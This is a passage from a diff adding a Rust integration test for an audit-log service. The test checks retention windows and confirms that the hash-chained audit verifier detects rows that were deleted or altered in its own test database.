+    let instance = Instance::restart_with(state.path(), &[("ANONYMOUS_AUDIT_RETENTION_DAYS", "7")]).await;
+    let (api, operator) = (workspace.admin.on(&instance.url), instance.operator());
+    let left = async |api: &Api, path: &str, expected: &[&str]| {
+        eventually("the old ones to go", || async {
+            let found = events(api, path, &[]).await;
+            let actions: Vec<_> = found.iter().map(|event| event["action"].as_str().unwrap().to_owned()).collect();
+            (actions == expected).then_some(())
+        })
+        .await;
+    };
+    let of_users = ["workspace.create", "session.login", "api_token.create", "api_token.create", "api_token.create"];
+    left(&api, EVENTS, &of_users).await;
+    left(&operator, "/operator/audit/events/", &["workspace.create"]).await;
+    let whole =
+        json!({"valid": true, "links": 8, "unsealed": 0, "expired": 3, "first_broken": null, "next_link": null});
+    assert_eq!(verify(&api, VERIFY).await, whole);
+    assert_eq!(verify(&operator, "/operator/audit/verify/").await["expired"], 1);
+    // From any link on.
+    for first in 1..=9 {
+        let found = api.post(VERIFY, &json!({"first_link": first})).await.expect(200);
+        assert_eq!((&found["valid"], &found["links"]), (&json!(true), &json!(9 - first)), "{first}");
+    }
+
+    // A young anonymous event is there, and sealed. (There was one within the last minute.)
+    instance.tamper_with_d1("DELETE FROM anonymous_events");
+    workspace.anonymous.on(&instance.url).log_in("boss", "not the password").await.expect(403);
+    send(&api, "POST", TOKENS, token("young")).await;
+    eventually("the young ones", || async { (sealed(&api, VERIFY).await == 10).then_some(()) }).await;
+    let all = events(&api, EVENTS, &[]).await;
+    let link = |action: &str| all.iter().rfind(|event| event["action"] == action).unwrap()["link"].as_i64().unwrap();
+    let (young, users) = (link("session.login"), link("api_token.create").min(3));
+    let columns = farhand_domain::audit::COLUMNS.join(", ");
+    let of = format!("workspace_id = {id} AND link");
+    let as_expired = |link: i64| {
+        let row = instance.read_d1(&format!(
+            "SELECT json_array(seq, link, hash, json_array({columns})) FROM audit_events WHERE {of} = {link}"
+        ));
+        let row: Row = serde_json::from_str(&row[0]).unwrap();
+        format!(
+            "INSERT INTO audit_expired VALUES ({id}, {link}, 9, '{}', '{}'); DELETE FROM audit_events WHERE {of} = {link}",
+            row.hash.as_deref().unwrap(),
+            row.digest()
+        )
+    };
+    let expired: Vec<i64> = instance
+        .read_d1(&format!("SELECT CAST(link AS TEXT) FROM audit_expired WHERE workspace_id = {id} ORDER BY link"))
+        .iter()
+        .map(|link| link.parse().unwrap())
+        .collect();
+    assert_eq!(expired.len(), 3);
+    instance.tamper_with_d1("CREATE TABLE kept AS SELECT * FROM audit_events");
+    instance.tamper_with_d1("CREATE TABLE kept_expired AS SELECT * FROM audit_expired");
+    for (name, sql, link, problem) in [
+        (
+            "an expired one goes",
+            format!("DELETE FROM audit_expired WHERE {of} = {}", expired[1]),
+            expired[1],
+            "missing",
+        ),
+        (
+            "its digest",
+            format!("UPDATE audit_expired SET digest = 'x' WHERE {of} = {}", expired[0]),
+            expired[0],
+            "altered",
+        ),
+        ("its hash", format!("UPDATE audit_expired SET hash = 'x' WHERE {of} = {}", expired[0]), expired[0], "altered"),
+        ("an event of a user", as_expired(users), users, "altered"),
+        ("a young event", as_expired(young), young, "missing"),
+        ("one that simply goes", format!("DELETE FROM audit_events WHERE {of} = {young}"), young, "missing"),
+    ] {
+        instance.tamper_with_d1(&sql);
+        let broken = verify(&api, VERIFY).await["first_broken"].clone();
+        assert_eq!(broken, json!({"link": link, "event": null, "problem": problem}), "{name}");
+        instance.tamper_with_d1(
+            "DELETE FROM audit_events; INSERT INTO audit_events SELECT * FROM kept;
+             DELETE FROM audit_expired; INSERT INTO audit_expired SELECT * FROM kept_expired",
+        );
+        assert_eq!(verify(&api, VERIFY).await["valid"], true, "{name}, put back");
+    }
+    instance.tamper_with_d1("DROP TABLE kept; DROP TABLE kept_expired");
+
+    // The other retention takes what expired along.
+    instance.stop().await;
+    let instance = Instance::restart_with(state.path(), &[("AUDIT_RETENTION_DAYS", "7")]).await;
+    let (api, operator) = (workspace.admin.on(&instance.url), instance.operator());
+    left(&api, EVENTS, &["session.login", "api_token.create"]).await;
+    assert_eq!(sealed(&api, VERIFY).await, 2);
+    assert_eq!(sealed(&operator, "/operator/audit/verify/").await, 2);
+    let rows = instance.read_d1("SELECT CAST(workspace_id AS TEXT) FROM audit_expired");
+    assert_eq!(rows, ["0"]);
 }
